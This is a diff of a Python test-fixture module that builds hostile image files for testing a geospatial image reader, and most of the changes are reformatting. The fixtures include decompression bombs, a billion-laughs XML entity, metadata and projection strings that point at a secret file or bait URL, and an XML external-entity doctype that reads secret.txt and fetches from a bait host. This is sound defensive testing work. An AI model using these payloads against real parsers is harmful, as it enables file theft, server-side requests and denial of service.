@@ -1,4 +1,4 @@
-"""Files that are made to harm who opens them: bombs, documents that name other files, images with planted neighbours."""
+"""Files made to harm who opens them: bombs, documents that name other files, images with planted neighbours."""
 
 import struct
 import zlib
@@ -27,7 +27,7 @@ class Bait(NamedTuple):
 
 
 class Hostile(NamedTuple):
-    """A file, how it is written, and a part of the reason why it fails; None where it is read as the image that it is."""
+    """A file, how it is written, and a part of the reason why it fails; None where it is read as what it is."""
 
     name: str
     write: Callable[[Path, Bait], object]
@@ -53,7 +53,9 @@ def _bombs() -> list[Hostile]:
         Hostile("deflate.tif", _deflate_bomb, None),
         Hostile("interlaced.png", lambda path, _: path.write_bytes(_png(40_000, 40_000, 1)), None),
         Hostile("wide.png", lambda path, _: path.write_bytes(_png(2**31 - 1, 2**31 - 1, 0)), UNREADABLE),
-        Hostile("text.png", lambda path, _: path.write_bytes(_png(SIDE, SIDE, 0, zlib.compress(bytes(2**28), 9))), None),
+        Hostile(
+            "text.png", lambda path, _: path.write_bytes(_png(SIDE, SIDE, 0, zlib.compress(bytes(2**28), 9))), None
+        ),
         Hostile("tiles.jp2", lambda path, _: path.write_bytes(codestream(255 * 64, 257 * 64, 64, 1)), TOO_LARGE),
         Hostile("tiles64.jp2", lambda path, _: path.write_bytes(codestream(255 * 64, 257 * 64, 64, 64)), TOO_LARGE),
         Hostile("components.jp2", lambda path, _: path.write_bytes(codestream(64, 64, 64, 16_384)), TOO_LARGE),
@@ -242,12 +244,20 @@ _NAMED = ("/vsicurl/{url}/ovr.tif", "{secret}")
 
 def _metadata() -> list[Hostile]:
     items = [
-        Hostile(f"overview-{number}.tif", lambda path, bait, name=name: _tagged(path, bait, "OVERVIEWS", "OVERVIEW_FILE", name), None)
+        Hostile(
+            f"overview-{number}.tif",
+            lambda path, bait, name=name: _tagged(path, bait, "OVERVIEWS", "OVERVIEW_FILE", name),
+            None,
+        )
         for number, name in enumerate(_NAMED)
     ]
     items += [
         Hostile("geolocation.tif", lambda path, bait: _tagged(path, bait, "GEOLOCATION", "X_DATASET", _NAMED[0]), None),
-        Hostile("subdatasets.tif", lambda path, bait: _tagged(path, bait, "SUBDATASETS", "SUBDATASET_1_NAME", _NAMED[1]), None),
+        Hostile(
+            "subdatasets.tif",
+            lambda path, bait: _tagged(path, bait, "SUBDATASETS", "SUBDATASET_1_NAME", _NAMED[1]),
+            None,
+        ),
         Hostile("xml-vrt.tif", lambda path, bait: _tagged(path, bait, "xml:VRT", "a", _TEXTS["vrt-web.tif"]), None),
         Hostile("rpc.tif", lambda path, bait: _tagged(path, bait, "RPC", "LINE_OFF", "1e999"), None),
         Hostile("deep-xml.tif", lambda path, _: _metadata_text(path, b"<a>" * 300_000), None),
@@ -295,7 +305,7 @@ _LAUGHS = "<!DOCTYPE S [<!ENTITY a0 'ha'>{}]>".format(
 
 
 def _sicd_with(path: Path, doctype: str) -> None:
-    """A SICD document with a document type before it, as long as the part of the document that it takes the place of."""
+    """A SICD document with a document type before it, as long as the part that it takes the place of."""
     write_sicd(path, SIDE, SIDE)
     body = path.read_bytes()
     start = body.index(b"<SICD")
@@ -305,7 +315,9 @@ def _sicd_with(path: Path, doctype: str) -> None:
 
 
 def _external_entity(path: Path, bait: Bait) -> None:
-    _sicd_with(path, f"<!DOCTYPE S [<!ENTITY x SYSTEM '{bait.directory}/secret.txt'><!ENTITY % y SYSTEM '{bait.url}/x'> %y;]>")
+    _sicd_with(
+        path, f"<!DOCTYPE S [<!ENTITY x SYSTEM '{bait.directory}/secret.txt'><!ENTITY % y SYSTEM '{bait.url}/x'> %y;]>"
+    )
 
 
 def _grids(path: Path, bait: Bait) -> None:
@@ -314,8 +326,8 @@ def _grids(path: Path, bait: Bait) -> None:
         'PROJCS["x",GEOGCS["y",DATUM["z",SPHEROID["GRS 1980",6378137,298.257],EXTENSION["PROJ4_GRIDS",'
         f'"{bait.secret},{bait.url}/grid.tif"]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]],'
         'PROJECTION["Transverse_Mercator"],PARAMETER["central_meridian",3],PARAMETER["scale_factor",0.9996],'
-        f'PARAMETER["false_easting",500000],UNIT["metre",1],EXTENSION["PROJ4","+proj=utm +zone=31 +nadgrids={bait.secret}'
-        f',{bait.url}/grid.tif +units=m"]]'
+        'PARAMETER["false_easting",500000],UNIT["metre",1],EXTENSION["PROJ4","+proj=utm +zone=31 '
+        f'+nadgrids={bait.secret},{bait.url}/grid.tif +units=m"]]'
     )
     citation = f"ESRI PE String = {system}|".encode()
     keys = [1, 1, 0, 4, 1024, 0, 1, 1, 1025, 0, 1, 1, 3072, 0, 1, 32767, 3073, 34737, len(citation), 0]
@@ -327,6 +339,6 @@ def write_geo_tiff(path: Path, tags: dict[int, int | bytes | list[int]], keys: l
     """Write a TIFF of a small grid of pixels with GeoTIFF keys (OGC 19-008r4)."""
     doubles = {33550: [0.5, 0.5, 0.0], 33922: [0.0, 0.0, 0.0, 500_000.0, 5_400_000.0, 0.0]}
     bits = {tag: [int(word) for word in np.asarray(values).view(np.uint64)] for tag, values in doubles.items()}
-    write_tiff(path, {**tags, **bits, 34735: keys}, pattern(1, SIDE, SIDE).tobytes(), kinds={33550: 12, 33922: 12, 34735: 3})
-
-
+    write_tiff(
+        path, {**tags, **bits, 34735: keys}, pattern(1, SIDE, SIDE).tobytes(), kinds={33550: 12, 33922: 12, 34735: 3}
+    )
